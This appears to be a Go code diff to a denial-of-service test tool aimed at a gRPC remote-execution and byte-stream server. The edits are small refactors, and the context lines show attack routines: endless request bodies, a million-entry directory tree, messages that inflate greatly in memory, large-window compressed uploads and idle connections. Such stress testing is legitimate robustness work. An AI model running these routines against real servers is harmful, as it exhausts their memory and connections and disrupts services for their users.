@@ -75,7 +75,7 @@ func (a Attack) dial(options ...grpc.DialOption) *grpc.ClientConn {
 }
 
 // bare opens a call that sends body and never ends.
-func (a Attack) bare(ctx context.Context, on *http2.Transport, method string, body io.Reader) {
+func (a Attack) bare(ctx context.Context, on http.RoundTripper, method string, body io.Reader) {
 	r, send := io.Pipe()
 	q, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+a.Addr+method, r)
 	if err != nil {
@@ -93,8 +93,8 @@ func (a Attack) bare(ctx context.Context, on *http2.Transport, method string, bo
 	}()
 }
 
-func transport() *http2.Transport {
-	return &http2.Transport{
+func transport() http.RoundTripper {
+	return &http2.Transport{ //nolint:staticcheck // net/http opens another connection where a server allows no more calls
 		AllowHTTP: true, StrictMaxConcurrentStreams: true,
 		DialTLSContext: func(ctx context.Context, network, addr string, _ *tls.Config) (net.Conn, error) {
 			return new(net.Dialer).DialContext(ctx, network, addr)
@@ -182,7 +182,7 @@ func encoded(m proto.Message) []byte {
 // which are uploaded, walked and executed in.
 func (a Attack) directories(ctx context.Context) {
 	conn := a.dial()
-	defer conn.Close()
+	defer func() { _ = conn.Close() }()
 	million := &repb.Directory{}
 	empty := put(ctx, conn, nil)
 	for i := range a.of(1_000_000) {
@@ -227,7 +227,7 @@ func execute(ctx context.Context, conn *grpc.ClientConn, action *repb.Digest) {
 // dense are messages that are fifty times as large in memory as on their way.
 func (a Attack) dense(ctx context.Context) {
 	on := transport()
-	defer on.CloseIdleConnections()
+	defer (&http.Client{Transport: on}).CloseIdleConnections()
 	body := bytes.Repeat([]byte{2<<3 | 2, 0}, most/2)
 	message := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(body))), body...)
 	var calls sync.WaitGroup
@@ -251,7 +251,7 @@ func (a Attack) dense(ctx context.Context) {
 // windows are compressed uploads that want a window of 8 MiB each.
 func (a Attack) windows(ctx context.Context) {
 	conn := a.dial()
-	defer conn.Close()
+	defer func() { _ = conn.Close() }()
 	client := bspb.NewByteStreamClient(conn)
 	// RFC 8878, section 3.1.1: a frame with a window of 8 MiB, and the beginning of a
 	// block of 128 KiB as it is.
@@ -294,7 +294,7 @@ func (a Attack) silent(ctx context.Context) {
 		if err != nil {
 			continue
 		}
-		context.AfterFunc(ctx, func() { conn.Close() })
+		context.AfterFunc(ctx, func() { _ = conn.Close() })
 		_, _ = io.WriteString(conn, http2.ClientPreface)
 		_ = http2.NewFramer(conn, nil).WriteSettings()
 	}
